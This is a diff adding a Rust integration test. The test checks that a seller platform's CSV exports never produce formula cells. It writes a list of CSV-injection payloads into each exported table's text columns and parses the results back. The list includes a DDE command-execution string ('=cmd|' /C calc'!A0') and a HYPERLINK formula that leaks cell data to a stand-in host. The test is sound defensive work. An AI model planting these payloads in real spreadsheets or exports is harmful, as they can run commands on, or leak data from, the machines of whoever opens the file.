@@ -1,0 +1,187 @@
+//! No cell of an export is a formula, whatever somebody wrote into whatever becomes one: taken from the declarations
+//! of the sheets, built as the worker builds it, and read back from the file.
+
+use std::sync::Arc;
+
+use diesel::{
+    QueryableByName,
+    sql_types::{Integer, Text, Uuid},
+};
+use diesel_async::RunQueryDsl;
+use futures::TryStreamExt;
+use kontor_exports::{Builder, Request, Resource, Sheets, build, find, request};
+use kontor_files::{MemoryStore, ObjectStore};
+use kontor_kernel::Locale;
+use kontor_lists::{Cell, Sheet};
+use kontor_testkit::World;
+
+static SHEETS: Sheets = Sheets(&[
+    (Resource::Orders, &kontor_orders::ORDERS),
+    (Resource::Transfers, &kontor_orders::money::TRANSFERS),
+    (Resource::PaymentLogs, &kontor_orders::money::PAYMENT_LOGS),
+    (Resource::Products, &kontor_catalog::PRODUCTS),
+    (Resource::ProductAccess, &kontor_catalog::PRODUCT_ACCESS),
+    (Resource::LicenseKeys, &kontor_catalog::license_keys::LICENSE_KEYS),
+    (Resource::PaymentTickets, &kontor_fulfilment::tickets::PAYMENT_TICKETS),
+    (Resource::CourseSessions, &kontor_fulfilment::sessions::COURSE_SESSIONS),
+    (Resource::Coupons, &kontor_coupons::COUPONS),
+    (Resource::CouponCodes, &kontor_coupons::COUPON_CODES),
+    (Resource::OptInQuestions, &kontor_catalog::OPT_IN_QUESTIONS),
+    (Resource::OptInAnswers, &kontor_orders::opt_ins::OPT_IN_ANSWERS),
+]);
+
+/// What spreadsheets have run (OWASP, CSV injection), and what becomes it where semicolons end a cell.
+const PAYLOADS: &[&str] = &[
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=HYPERLINK(\"http://x.test?\"&A1,\"a\")",
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    "a;=1+1",
+    "a\";\"=1+1",
+    "a\n=1+1",
+    "a\r\n=1+1",
+];
+
+#[derive(QueryableByName)]
+struct Name {
+    #[diesel(sql_type = Text)]
+    name: String,
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_cell_of_an_export_is_a_formula() {
+    let world = World::new().await;
+    let anna = world.seller("anna").await;
+    let mut tx = world.api.begin(anna.scope()).await.unwrap();
+    let fill = diesel::sql_query(include_str!("../../../orders/tests/fill.sql"));
+    fill.bind::<Uuid, _>(anna.id).bind::<Integer, _>(3).execute(tx.conn().unwrap()).await.unwrap();
+    let moved = diesel::sql_query(include_str!("../../../orders/tests/money.sql"));
+    moved.bind::<Uuid, _>(anna.id).execute(tx.conn().unwrap()).await.unwrap();
+    tx.commit().await.unwrap();
+    let mut owner = world.owner().await;
+    let key = "INSERT INTO license_keys (seller_id, id, product_id, value, source, state, created_at, updated_at)
+               SELECT seller_id, gen_random_uuid(), id, 'KEY', 'list', 'available', now(), now() FROM products LIMIT 1";
+    diesel::sql_query(key).execute(&mut owner).await.unwrap();
+    assert_eq!(diesel::sql_query(include_str!("ticket.sql")).execute(&mut owner).await.unwrap(), 1);
+    let session = "INSERT INTO course_sessions (seller_id, id, product_id, payer_email, state, created_at, updated_at)
+                   SELECT seller_id, gen_random_uuid(), id, 'a@example.test', 'publishing', now(), now() FROM products LIMIT 1";
+    assert_eq!(diesel::sql_query(session).execute(&mut owner).await.unwrap(), 1);
+    let coupon = "WITH made AS (
+            INSERT INTO coupons (seller_id, id, name, kind, code, charset, code_length, code_prefix, codes_wanted, discount_unit,
+                percents_bps, basis, product_scope, payments, tokens, created_at, updated_at)
+            SELECT seller_id, gen_random_uuid(), 'Spring', 'single', 'SPRING', 'alphabetic', 6, '', 1, 'percents', 1000,
+                'end_amount', 'all_products', 'first_payment', '{}', now(), now() FROM products LIMIT 1 RETURNING seller_id, id)
+        INSERT INTO coupon_codes (seller_id, id, coupon_id, code, created_at)
+        SELECT seller_id, gen_random_uuid(), id, 'SPRING', now() FROM made";
+    assert_eq!(diesel::sql_query(coupon).execute(&mut owner).await.unwrap(), 1);
+    for sql in [
+        "INSERT INTO opt_in_questions (seller_id, id, product_id, field_type, question, provider, mandatory, options, position, created_at,
+             updated_at)
+         SELECT seller_id, gen_random_uuid(), id, 'service', 'News?', 'Mailbird', false, '{}', 0, now(), now() FROM products LIMIT 1",
+        "INSERT INTO opt_in_answers (seller_id, id, order_id, product_id, question_id, field_type, question, provider, answer, created_at)
+         SELECT seller_id, gen_random_uuid(), id, product_id, gen_random_uuid(), 'service', 'News?', 'Mailbird', 'true', now()
+         FROM orders LIMIT 1",
+    ] {
+        assert_eq!(diesel::sql_query(sql).execute(&mut owner).await.unwrap(), 1);
+    }
+    let files = Arc::new(MemoryStore::default());
+    for (resource, sheet) in SHEETS.0 {
+        let poisoned = text_columns(&mut owner, sheet).await;
+        for payload in PAYLOADS {
+            let mut written = Vec::new();
+            for column in &poisoned {
+                // A column that takes certain words only refuses, and stays as it is. The seller's rows are the only ones.
+                // What a transfer or an answer says of its order is kept with the order.
+                let tables: &[&str] = match sheet.table {
+                    "transfer_rows" => &["order_rows"],
+                    "payment_log_rows" => &["payment_logs", "order_rows"],
+                    "opt_in_answer_rows" => &["opt_in_answers", "order_rows"],
+                    table => &[table],
+                };
+                for table in tables {
+                    let sql = format!("UPDATE {table} SET \"{column}\" = $1");
+                    if diesel::sql_query(sql).bind::<Text, _>(payload).execute(&mut owner).await.is_ok() {
+                        written.push(format!("r.{column}"));
+                    }
+                }
+            }
+            let public_url = "http://kontor.test".to_owned();
+            let builder = Builder { db: world.worker.clone(), files: files.clone(), sheets: SHEETS, public_url };
+            let mut tx = world.api.begin(anna.scope()).await.unwrap();
+            let wish = Request { resource: *resource, query: "", locale: Locale::De, requested_by: Some(anna.user) };
+            let export = request(&mut tx, SHEETS, &wish).await.unwrap();
+            tx.commit().await.unwrap();
+            build(&builder, anna.id, export.id, |_| async { None }).await.unwrap();
+            let mut tx = world.api.begin(anna.scope()).await.unwrap();
+            let key = find(&mut tx, export.id).await.unwrap().object_key.unwrap();
+            let pieces: Vec<_> = files.get(&key).await.unwrap().unwrap().try_collect().await.unwrap();
+            let file = String::from_utf8(pieces.concat()).unwrap();
+
+            let rows = parse(file.trim_start_matches('\u{feff}'));
+            assert!(rows.len() > 1 && rows.iter().all(|row| row.len() == sheet.columns.len()), "{payload:?}: {file}");
+            for row in &rows {
+                for (column, cell) in sheet.columns.iter().zip(row) {
+                    assert!(harmless(cell), "{}.{}: {payload:?} became {cell:?}", sheet.name, column.key);
+                }
+            }
+            for (column, cell) in sheet.columns.iter().zip(&rows[1]) {
+                if written.contains(&column.sql.to_owned()) && matches!(column.cell, Cell::Text) {
+                    assert_eq!(cell.replace('\'', ""), payload.replace('\'', ""), "{}.{}", sheet.name, column.key);
+                }
+            }
+            let texts =
+                sheet.columns.iter().filter(|column| matches!(column.cell, Cell::Text) && column.sql.starts_with("r."));
+            let missed: Vec<_> =
+                texts.filter(|column| !written.contains(&column.sql.to_owned())).map(|column| column.key).collect();
+            assert!(missed.is_empty(), "{}: nothing could be written to {missed:?}", sheet.name);
+        }
+    }
+}
+
+/// The texts of the sheet's table that reach a column of the file as they are.
+async fn text_columns(owner: &mut diesel_async::AsyncPgConnection, sheet: &Sheet) -> Vec<String> {
+    let sql = "SELECT column_name::text AS name FROM information_schema.columns
+               WHERE table_name = $1 AND data_type IN ('text', 'character varying')";
+    let found: Vec<Name> = diesel::sql_query(sql).bind::<Text, _>(sheet.table).load(owner).await.unwrap();
+    // The currency decides how amounts are written, and one that nobody knows ends the file.
+    let reaches = |name: &str| {
+        let sql = format!("r.{name}");
+        sheet.currency != Some(sql.as_str()) && sheet.columns.iter().any(|column| column.sql == sql)
+    };
+    found.into_iter().map(|row| row.name).filter(|name| reaches(name)).collect()
+}
+
+/// Neither the cell itself begins a formula, nor a piece of it that another reader may take for a cell or a line.
+fn harmless(cell: &str) -> bool {
+    let number = |text: &str| text.strip_prefix('-').unwrap_or(text).chars().all(|c| c.is_ascii_digit() || c == '.');
+    let pieces = cell.split([';', '\t', '\n', '\r']).map(|piece| piece.trim_start_matches([' ', '"']));
+    number(cell)
+        || (!cell.starts_with(['\t', '\r', '\n'])
+            && pieces.into_iter().all(|piece| !piece.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])))
+}
+
+/// RFC 4180.
+fn parse(text: &str) -> Vec<Vec<String>> {
+    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
+    let mut letters = text.chars().peekable();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
+            '"' => quoted = !quoted,
+            ',' if !quoted => row.push(std::mem::take(&mut cell)),
+            '\r' if !quoted => {}
+            '\n' if !quoted => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            other => cell.push(other),
+        }
+    }
+    rows
+}
